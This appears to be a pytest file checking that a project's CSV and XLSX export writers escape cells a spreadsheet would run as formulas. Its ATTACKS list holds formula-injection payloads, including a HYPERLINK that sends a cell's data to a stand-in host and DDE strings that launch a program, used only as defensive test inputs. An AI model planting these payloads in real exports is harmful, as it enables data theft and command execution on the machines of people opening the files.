"""Every CSV and XLSX the product writes neutralises cells that a spreadsheet would run.

A name such as `=HYPERLINK(…)` typed into the records must reach no file as a formula:
each writer passes text through lib.spreadsheets.safe_cell (security issue 14).
"""

import csv
import io

import openpyxl
import pytest

from citesmart.api.http import to_csv
from citesmart.lib.spreadsheets import csv_chunks, write_csv, write_xlsx
from citesmart.network.models import CatalogueService, Center, ServiceCategory
from citesmart.opendata import catalog, publish, writers, xlsx
from citesmart.units.models import ProductiveUnit

ATTACKS = [
    '=HYPERLINK("http://x.example/?"&A1,"clic")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def dangerous(cell: str) -> bool:
    return cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def xlsx_cells(path_or_file) -> list[str]:
    book = openpyxl.load_workbook(path_or_file, read_only=True)
    return [
        str(value)
        for sheet in book.worksheets
        for row in sheet.iter_rows(values_only=True)
        for value in row
        if value is not None
    ]


def assert_neutralised(cells: list[str]) -> None:
    # XLSX keeps line ends as XML reads them back (CR as LF): compare with that in mind.
    attacks = {attack.replace("\r", "\n") for attack in ATTACKS}
    found = [cell for cell in cells if cell.lstrip("'").replace("\r", "\n") in attacks]
    assert len(found) >= len(ATTACKS), found
    assert not [cell for cell in found if dangerous(cell)], found


def test_the_shared_writers_neutralise_every_prefix(tmp_path):
    rows = [[attack, 1] for attack in ATTACKS]
    write_csv(tmp_path / "a.csv", ["nombre", "n"], rows)
    assert_neutralised(csv_cells((tmp_path / "a.csv").read_text(encoding="utf-8")))
    streamed = b"".join(csv_chunks(["nombre", "n"], rows)).decode()
    assert_neutralised(csv_cells(streamed))
    write_xlsx(tmp_path / "a.xlsx", {"Hoja": (["nombre", "n"], rows)})
    assert_neutralised(xlsx_cells(tmp_path / "a.xlsx"))
    assert_neutralised(csv_cells(to_csv({"nombre": attack, "n": -1} for attack in ATTACKS)))


def test_the_open_data_writers_neutralise_every_prefix(tmp_path):
    resource = next(r for r in catalog.RESOURCES if any(f.type == "string" for f in r.fields))
    width = len(resource.columns)
    batch = [tuple([attack] * width) for attack in ATTACKS]
    writer = writers.CsvWriter(resource, tmp_path / "t.csv")
    writer.add(batch)
    writer.close()
    assert_neutralised(csv_cells((tmp_path / "t.csv").read_text(encoding="utf-8")))
    xlsx.write(tmp_path / "t.xlsx", "t", resource.columns, batch)
    assert_neutralised(xlsx_cells(tmp_path / "t.xlsx"))


def test_negative_numbers_stay_numbers(tmp_path):
    write_csv(tmp_path / "n.csv", ["n"], [[-5]])
    assert csv_cells((tmp_path / "n.csv").read_text(encoding="utf-8")) == ["n", "-5"]


@pytest.mark.django_db
def test_names_typed_as_formulas_reach_the_published_open_data_neutralised(world):
    companies = ProductiveUnit.objects.filter(pk__in=[u.pk for u in world.companies])
    for company, attack in zip(companies, ATTACKS, strict=False):
        company.name = attack
        company.save(update_fields=["name"])
    center = Center.objects.get(code="citeagroindustrial-moquegua")
    category = ServiceCategory.objects.order_by("order").first()
    for attack in ATTACKS:
        CatalogueService.objects.create(center=center, name=attack, category=category)
    folder, _ = publish.publish()
    for name in ("servicios", "catalogo"):
        assert_neutralised(csv_cells((folder / f"{name}.csv").read_text(encoding="utf-8")))
        assert_neutralised(xlsx_cells(folder / f"{name}.xlsx"))
